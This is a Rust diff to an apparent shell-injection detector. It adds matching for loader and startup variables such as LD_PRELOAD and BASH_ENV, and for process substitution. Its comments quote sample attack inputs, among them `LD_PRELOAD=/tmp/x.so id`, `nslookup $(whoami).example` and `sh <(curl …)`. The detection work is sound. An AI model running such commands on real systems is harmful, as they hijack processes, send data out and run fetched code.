@@ -27,7 +27,9 @@ pub(super) fn is_program(rest: &[u8]) -> bool {
     let length =
         rest.iter().take(NAME_BYTES_MAX).take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'_').count();
     match rest.get(length) {
-        Some(b'=') if length > 0 => is_assembled(&rest[..length], line(&rest[length..])),
+        Some(b'=') if length > 0 => {
+            is_assembled(&rest[..length], line(&rest[length..])) || is_loading(&rest[..length], line(&rest[length..]))
+        }
         Some(b' ') => is_loop(&rest[..length], line(rest)),
         _ => false,
     }
@@ -39,6 +41,26 @@ fn is_show(rest: &[u8]) -> bool {
     let name = rest[..end].trim_ascii();
     let name = name.strip_suffix(b".exe").unwrap_or(name);
     matches!(name, b"calc" | b"notepad" | b"start calc")
+}
+
+/// Variables by which programs load or run something else.
+static LOADING: [&[u8]; 9] = [
+    b"LD_PRELOAD",
+    b"LD_LIBRARY_PATH",
+    b"LD_AUDIT",
+    b"BASH_ENV",
+    b"PATH",
+    b"PYTHONPATH",
+    b"PYTHONSTARTUP",
+    b"PERL5OPT",
+    b"GIT_SSH_COMMAND",
+];
+
+/// `LD_PRELOAD=/tmp/x.so id`: a command runs with what the variable loads.
+fn is_loading(name: &[u8], after: &[u8]) -> bool {
+    let Some(blank) = memchr::memchr(b' ', after) else { return false };
+    let command = words::read(after, blank + 1);
+    LOADING.contains(&name) && command.words.first().is_some_and(|name| commands::is_command(name))
 }
 
 /// `a=c;b=at;$a$b`, `IFS=,;`…``: what `name` was given is run.
@@ -101,11 +123,11 @@ fn has_here_string(line: &[u8]) -> bool {
     memchr::memmem::find(line, b"<<<").is_some()
 }
 
-/// Another command runs within the words of the first: `nslookup $(whoami).example`.
+/// Another command runs within the words of the first: `nslookup $(whoami).example`, `sh <(curl …)`.
 fn runs_within(line: &[u8]) -> bool {
-    memchr::memchr2_iter(b'$', b'`', line).any(|place| {
+    memchr::memchr3_iter(b'$', b'`', b'<', line).any(|place| {
         let inner = match &line[place..] {
-            [b'$', b'(', ..] => place + 2,
+            [b'$' | b'<', b'(', ..] => place + 2,
             [b'`', ..] => place + 1,
             _ => return false,
         };
